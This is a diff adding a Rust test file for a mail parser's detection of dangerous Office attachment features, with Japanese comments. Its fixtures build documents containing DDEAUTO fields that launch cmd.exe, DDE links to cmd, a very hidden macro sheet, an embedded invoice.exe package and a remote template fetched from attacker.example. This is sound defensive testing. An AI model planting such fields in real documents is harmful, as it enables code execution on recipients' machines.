@@ -0,0 +1,287 @@
+// =========================
+// tests/office_indicators.rs
+// Office文書添付（OLE2/OOXML）の指標検出の結合テスト
+//
+// 【役割】
+// - OLE2（.doc/.xls）のVBAプロジェクト・埋め込みOLEオブジェクト・DDEフィールド・XLMの検出を確認
+// - OOXML（.docm/.xlsm）のVBAプロジェクト・リモートテンプレート・埋め込みOLE・DDE・XLMの検出を確認
+// - 指標の無い文書は空の一覧になり、ログにも出力されないことを確認
+// =========================
+
+mod common;
+
+use common::{attachment, base64, multipart, run_one, Message, MIXED};
+use serde_json::Value;
+use std::io::{Cursor, Write};
+
+/// (パス, データ)の一覧からOLE2（Compound File）を作成（ストレージは自動作成）
+fn ole2(streams: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
+    for (path, data) in streams {
+        let parent = std::path::Path::new(path).parent().unwrap();
+        file.create_storage_all(parent).unwrap();
+        file.create_stream(path).unwrap().write_all(data).unwrap();
+    }
+    file.flush().unwrap();
+    file.into_inner().into_inner()
+}
+
+/// (名前, データ)の一覧からOOXML（[Content_Types].xml入りのZIP）を作成
+fn ooxml(members: &[(&str, &str)]) -> Vec<u8> {
+    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default();
+    w.start_file("[Content_Types].xml", options).unwrap();
+    w.write_all(b"<?xml version=\"1.0\"?><Types/>").unwrap();
+    for (name, data) in members {
+        w.start_file(*name, options).unwrap();
+        w.write_all(data.as_bytes()).unwrap();
+    }
+    w.finish().unwrap().into_inner()
+}
+
+/// BIFF8レコード（種別・長さ・本文）
+fn biff(record: u16, body: &[u8]) -> Vec<u8> {
+    let mut out = record.to_le_bytes().to_vec();
+    out.extend_from_slice(&(body.len() as u16).to_le_bytes());
+    out.extend_from_slice(body);
+    out
+}
+
+/// BOUNDSHEETレコード（hsState: 表示状態、dt: シート種別）
+fn boundsheet(hs_state: u8, dt: u8, name: &str) -> Vec<u8> {
+    let mut body = vec![0, 0, 0, 0, hs_state, dt, name.len() as u8, 0];
+    body.extend_from_slice(name.as_bytes());
+    biff(0x0085, &body)
+}
+
+/// マクロ・DDE・OLEオブジェクト入りの.doc
+fn doc() -> Vec<u8> {
+    let mut word = vec![0u8; 32];
+    word.extend_from_slice(
+        b"\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" \x14x\x15",
+    );
+    word.extend_from_slice(b"\x13 PAGE \x141\x15"); // 通常のフィールド
+    let mut native = 64u32.to_le_bytes().to_vec();
+    native.extend_from_slice(b"\x02\x00invoice.exe\x00C:\\invoice.exe\x00");
+    ole2(&[
+        ("/WordDocument", &word),
+        ("/Macros/VBA/dir", b"\x01\x00"),
+        ("/Macros/PROJECT", b"ID=\"{}\""),
+        ("/ObjectPool/_1/\u{1}Ole10Native", &native),
+        ("/ObjectPool/_1/\u{1}CompObj", b"\x01\x00"),
+    ])
+}
+
+/// 非表示のマクロシートとDDEリンク入りの.xls
+fn xls() -> Vec<u8> {
+    let mut supbook = vec![0, 0]; // ctab=0（DDE/OLEリンク）
+    let path = "cmd\u{3}/c calc";
+    supbook.extend_from_slice(&(path.len() as u16).to_le_bytes());
+    supbook.push(0);
+    supbook.extend_from_slice(path.as_bytes());
+    let workbook = [
+        biff(0x0809, &[0; 16]), // BOF
+        boundsheet(0, 0, "Sheet1"),
+        boundsheet(2, 1, "Macro1"),
+        biff(0x01AE, &supbook),
+        biff(0x000A, &[]), // EOF
+    ]
+    .concat();
+    ole2(&[("/Workbook", &workbook)])
+}
+
+/// マクロ・リモートテンプレート・DDE・埋め込みOLE入りの.docm
+fn docm() -> Vec<u8> {
+    let document = concat!(
+        "<w:document><w:body><w:p>",
+        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>",
+        "<w:r><w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r>",
+        "<w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe &quot;/c calc&quot;</w:instrText></w:r>",
+        "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>",
+        "<w:r><w:t>x</w:t></w:r>",
+        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>",
+        "<w:fldSimple w:instr=\" PAGE \"><w:r><w:t>1</w:t></w:r></w:fldSimple>",
+        "</w:p></w:body></w:document>"
+    );
+    let rels = concat!(
+        "<Relationships>",
+        "<Relationship Id=\"rId1\" ",
+        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" ",
+        "Target=\"http://attacker.example/t.dotm?a=1&amp;b=2\" TargetMode=\"External\"/>",
+        "</Relationships>"
+    );
+    ooxml(&[
+        ("word/document.xml", document),
+        ("word/_rels/settings.xml.rels", rels),
+        ("word/vbaProject.bin", "vba"),
+        ("word/embeddings/oleObject1.bin", "PK\u{3}\u{4}"),
+    ])
+}
+
+/// マクロシートとDDEリンク入りの.xlsm
+fn xlsm() -> Vec<u8> {
+    ooxml(&[
+        ("xl/workbook.xml", "<workbook/>"),
+        ("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>"),
+        (
+            "xl/externalLinks/externalLink1.xml",
+            "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
+        ),
+    ])
+}
+
+/// Office文書を1件添付したメールを送信し、ログと添付のoffice解析結果を返す
+fn run_office(content_type: &str, filename: &str, data: &[u8]) -> (String, Value) {
+    let body = multipart(&[attachment(content_type, Some(filename), &base64(data))]);
+    let (log, record) = run_one(
+        "",
+        &Message {
+            headers: MIXED,
+            body: &body,
+            ..Message::default()
+        },
+    );
+    assert!(!log.contains("Office読み取りエラー"), "{}", log);
+    let office = record["attachments"][0]["office"].clone();
+    assert!(office["error"].is_null(), "{}", office);
+    (log, office)
+}
+
+/// office解析結果の指標を(種別, 場所, 詳細)の一覧にする
+fn indicators(office: &Value) -> Vec<(String, String, Value)> {
+    office["indicators"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|x| {
+            (
+                x["kind"].as_str().unwrap().to_string(),
+                x["location"].as_str().unwrap().to_string(),
+                x["detail"].clone(),
+            )
+        })
+        .collect()
+}
+
+/// 期待する指標1件
+fn ind(kind: &str, location: &str, detail: Value) -> (String, String, Value) {
+    (kind.to_string(), location.to_string(), detail)
+}
+
+/// ログに全行が含まれることを確認
+fn assert_logged(log: &str, lines: &[&str]) {
+    for line in lines {
+        assert!(log.contains(line), "{} がありません\n{}", line, log);
+    }
+}
+
+#[test]
+fn doc_reports_vba_ole_object_and_ddeauto() {
+    let (log, office) = run_office("application/msword", "report.doc", &doc());
+    assert_eq!(office["format"], "ole2");
+    assert_eq!(
+        indicators(&office),
+        vec![
+            ind("vba_project", "/Macros/VBA", Value::Null),
+            ind("ole_object", "/ObjectPool/_1", "invoice.exe".into()),
+            ind(
+                "dde_field",
+                "/WordDocument",
+                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"".into()
+            ),
+        ]
+    );
+    assert_logged(
+        &log,
+        &[
+            "[mail-parser] Office指標(1): vba_project /Macros/VBA",
+            "[mail-parser] Office指標(1): ole_object /ObjectPool/_1 (invoice.exe)",
+        ],
+    );
+}
+
+#[test]
+fn xls_reports_hidden_macro_sheet_and_dde_link() {
+    let (log, office) = run_office("application/vnd.ms-excel", "book.xls", &xls());
+    assert_eq!(office["format"], "ole2");
+    assert_eq!(
+        indicators(&office),
+        vec![
+            ind("excel4_macro", "/Workbook", "Macro1 (very hidden)".into()),
+            ind("dde_field", "/Workbook", "cmd|/c calc".into()),
+        ]
+    );
+    assert_logged(
+        &log,
+        &["[mail-parser] Office指標(1): excel4_macro /Workbook (Macro1 (very hidden))"],
+    );
+}
+
+#[test]
+fn docm_reports_split_ddeauto_remote_template_vba_and_ole() {
+    let (log, office) = run_office(
+        "application/vnd.ms-word.document.macroEnabled.12",
+        "letter.docm",
+        &docm(),
+    );
+    // 分割されたinstrTextを連結してDDEAUTOを検出、PAGEは対象外
+    assert_eq!(office["format"], "ooxml");
+    assert_eq!(
+        indicators(&office),
+        vec![
+            ind(
+                "dde_field",
+                "word/document.xml",
+                "DDEAUTO c:\\\\windows\\\\cmd.exe \"/c calc\"".into()
+            ),
+            ind(
+                "remote_template",
+                "word/_rels/settings.xml.rels",
+                "http://attacker.example/t.dotm?a=1&b=2".into()
+            ),
+            ind("vba_project", "word/vbaProject.bin", Value::Null),
+            ind("ole_object", "word/embeddings/oleObject1.bin", "zip".into()),
+        ]
+    );
+    assert_logged(
+        &log,
+        &["[mail-parser] Office指標(1): remote_template word/_rels/settings.xml.rels (http://attacker.example/t.dotm?a=1&b=2)"],
+    );
+}
+
+#[test]
+fn xlsm_reports_macro_sheet_and_dde_link() {
+    let (log, office) = run_office(
+        "application/vnd.ms-excel.sheet.macroEnabled.12",
+        "sheet.xlsm",
+        &xlsm(),
+    );
+    assert_eq!(
+        indicators(&office),
+        vec![
+            ind("excel4_macro", "xl/macrosheets/sheet1.xml", Value::Null),
+            ind(
+                "dde_field",
+                "xl/externalLinks/externalLink1.xml",
+                "cmd|/c calc".into()
+            ),
+        ]
+    );
+    assert_logged(
+        &log,
+        &["[mail-parser] Office指標(1): dde_field xl/externalLinks/externalLink1.xml (cmd|/c calc)"],
+    );
+}
+
+#[test]
+fn docx_without_indicators_reports_empty_list() {
+    let plain = ooxml(&[("word/document.xml", "<w:document/>")]);
+    let (log, office) = run_office(
+        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+        "plain.docx",
+        &plain,
+    );
+    assert_eq!(office["format"], "ooxml");
+    assert_eq!(indicators(&office), vec![]);
+    assert!(!log.contains("Office指標("), "{}", log);
+}